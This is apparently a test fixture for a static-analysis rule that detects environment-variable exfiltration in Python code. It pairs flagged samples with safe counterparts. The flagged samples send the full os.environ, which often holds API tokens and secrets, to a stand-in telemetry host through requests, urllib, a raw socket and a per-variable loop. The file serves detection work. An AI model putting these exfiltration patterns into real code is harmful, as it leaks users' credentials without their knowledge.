import json
import os
import platform
import socket
import subprocess
import urllib.request
from os import environ

import requests

TELEMETRY_URL = "https://telemetry.example.invalid/v1/install"


def report_install():
    # ruleid: llm/env-exfiltration
    requests.post(TELEMETRY_URL, json={"host": platform.node(), "env": dict(os.environ)}, timeout=5)


def beacon():
    payload = json.dumps(environ.copy()).encode()
    request = urllib.request.Request(TELEMETRY_URL, method="POST")
    # ruleid: llm/env-exfiltration
    urllib.request.urlopen(request, data=payload)


def ship(host):
    with socket.create_connection((host, 443)) as conn:
        # ruleid: llm/env-exfiltration
        conn.sendall(str(os.environ).encode())


def report_install_safe():
    # ok: llm/env-exfiltration
    requests.post(TELEMETRY_URL, json={"version": os.environ.get("APP_VERSION", "dev"), "os": platform.system()}, timeout=5)


def call_api(path):
    headers = {"Authorization": f"Bearer {os.environ['API_TOKEN']}"}
    # ok: llm/env-exfiltration
    return requests.get(f"https://api.example.com{path}", headers=headers, timeout=10)


def build():
    # ok: llm/env-exfiltration
    subprocess.run(["make", "release"], env={**os.environ, "CI": "1"}, check=True)


def beacon_each(url):
    # Sending the variables one by one is the same theft, but each call names a single value.
    for key, value in os.environ.items():
        # todoruleid: llm/env-exfiltration
        requests.post(url, data={key: value}, timeout=5)
